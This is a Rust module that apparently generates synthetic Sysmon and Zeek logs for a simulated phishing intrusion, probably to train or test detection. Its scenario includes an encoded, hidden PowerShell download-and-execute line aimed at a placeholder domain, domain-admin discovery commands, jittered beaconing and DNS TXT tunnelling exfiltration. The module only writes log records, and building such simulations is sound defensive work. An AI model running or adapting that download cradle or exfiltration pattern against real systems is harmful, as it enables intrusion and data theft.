//! The attack, phase by phase.

use base64::{Engine, engine::general_purpose::STANDARD};

use super::{
    BEACON_JITTER_MS, Expectations, Stage,
    network::{HOSTS, Host, SCANNER},
    office::EXPLORER,
    sysmon::{Process, write_connection, write_creation},
    zeek::{Certificate, Flow, Lookup, Traffic, write_conn, write_handshake, write_lookup},
};
use crate::random::Random;

const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
/// What the encoded command says; the name belongs to nobody.
const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('https://cloudsync.example/stage')";

const BEACON_IP: &str = "203.0.113.66";
const BEACON_PERIOD_MS: u64 = 5_000;
const BEACON_COUNT: u64 = 10;
const BEACON_FIRST_US: i64 = 11_000_000;
const BEACON_SUBJECT: &str = "CN=localhost,O=Internet Widgits Pty Ltd,ST=Some-State,C=AU";

const TUNNEL_DOMAIN: &str = "cloudsync.example";
const TUNNEL_QUERIES: u64 = 120;
const TUNNEL_FIRST_US: i64 = 30_000_000;
const TUNNEL_LENGTH_US: i64 = 20_000_000;

const DAY_US: i64 = 86_400_000_000;

/// What is settled before the story begins.
pub(super) struct Plot {
    victim: &'static Host,
    word: Process,
    powershell: Process,
}

impl Plot {
    pub(super) fn new(random: &mut Random) -> Self {
        let utf16: Vec<u8> = SCRIPT.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let command = format!("powershell.exe -nop -w hidden -enc {}", STANDARD.encode(utf16));
        let document = "C:\\Users\\m.keller\\Downloads\\Invoice_4711.docm";
        Self {
            victim: &HOSTS[6],
            word: Process::with_random(random, WORD, format!("\"{WORD}\" /n \"{document}\"")),
            powershell: Process::with_random(random, POWERSHELL, command),
        }
    }

    /// Returns what the attack alone makes expected; the counts of the whole story start at zero.
    pub(super) fn expectations(&self) -> Expectations {
        Expectations {
            victim_host: self.victim.name.to_owned(),
            victim_ip: self.victim.ip.to_owned(),
            victim_user: self.victim.user.unwrap_or_default().to_owned(),
            word_guid: self.word.guid.clone(),
            powershell_guid: self.powershell.guid.clone(),
            powershell_children: 0,
            beacon_ip: BEACON_IP.to_owned(),
            beacon_count: BEACON_COUNT,
            beacon_period_ms: BEACON_PERIOD_MS,
            beacon_subject: BEACON_SUBJECT.to_owned(),
            self_signed_count: BEACON_COUNT,
            tunnel_domain: TUNNEL_DOMAIN.to_owned(),
            tunnel_queries: TUNNEL_QUERIES,
            scanner_ip: SCANNER.to_owned(),
            inbound_count: 0,
            process_creations: 0,
            network_connections: 0,
        }
    }
}

/// Plays the attack.
pub(super) fn play(stage: &mut Stage, plot: &Plot, expect: &mut Expectations) {
    open_the_attachment(stage, plot, expect);
    look_around(stage, plot, expect);
    call_home(stage, plot, expect);
    carry_data_out(stage, plot);
}

fn open_the_attachment(stage: &mut Stage, plot: &Plot, expect: &mut Expectations) {
    let shell = Process::new(stage, EXPLORER, EXPLORER);
    write_creation(stage, 7_000_000, plot.victim, &plot.word, &shell, expect);
    write_creation(stage, 9_000_000, plot.victim, &plot.powershell, &plot.word, expect);
}

fn look_around(stage: &mut Stage, plot: &Plot, expect: &mut Expectations) {
    const COMMANDS: [(i64, &str, &str); 2] = [
        (15_200_000, "C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all"),
        (
            17_900_000,
            "C:\\Windows\\System32\\net.exe",
            "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain",
        ),
    ];
    for (at_us, image, command_line) in COMMANDS {
        let process = Process::new(stage, image, command_line);
        write_creation(stage, at_us, plot.victim, &process, &plot.powershell, expect);
        expect.powershell_children += 1;
    }
}

fn call_home(stage: &mut Stage, plot: &Plot, expect: &mut Expectations) {
    let certificate = Certificate {
        subject: BEACON_SUBJECT.to_owned(),
        issuer: BEACON_SUBJECT.to_owned(),
        serial: stage.random.hex(16).to_uppercase(),
        not_before_us: stage.moment_us(0) - 2 * DAY_US,
        not_after_us: stage.moment_us(0) + 363 * DAY_US,
        name: None,
    };
    for call in 0..BEACON_COUNT as i64 {
        let jitter_us = BEACON_JITTER_MS as i64 * 1000;
        let jitter_us = stage.random.between(-jitter_us, jitter_us + 1);
        let start_us = BEACON_FIRST_US + call * BEACON_PERIOD_MS as i64 * 1000 + jitter_us;
        let flow = Flow::new(stage, start_us, plot.victim.ip, BEACON_IP, 443);
        write_connection(stage, plot.victim, &plot.powershell, &flow, expect);
        write_handshake(stage, &flow, None, &certificate);
        let traffic = Traffic {
            proto: "tcp",
            service: Some("ssl"),
            state: "SF",
            history: "ShADadFf",
            duration_us: stage.random.between(180_000, 220_000),
            sent_bytes: stage.random.between(700, 724),
            received_bytes: stage.random.between(1_480, 1_500),
        };
        write_conn(stage, &flow, &traffic);
    }
}

/// Asks for one name after the other; the numbering makes sure that none is asked for twice.
fn carry_data_out(stage: &mut Stage, plot: &Plot) {
    let step_us = TUNNEL_LENGTH_US / TUNNEL_QUERIES as i64;
    for part in 0..TUNNEL_QUERIES as i64 {
        let length = stage.random.between(38, 56) as usize;
        let data = stage.random.label(length);
        let query = format!("{part:03}{data}.{TUNNEL_DOMAIN}");
        let answer = format!("TXT 24 {}", stage.random.label(24));
        let lookup = Lookup { query: &query, qtype: 16, qtype_name: "TXT", answer: &answer, ttl_s: 1 };
        let at_us = TUNNEL_FIRST_US + part * step_us + stage.random.between(0, step_us / 2);
        write_lookup(stage, at_us, plot.victim, &lookup);
    }
}
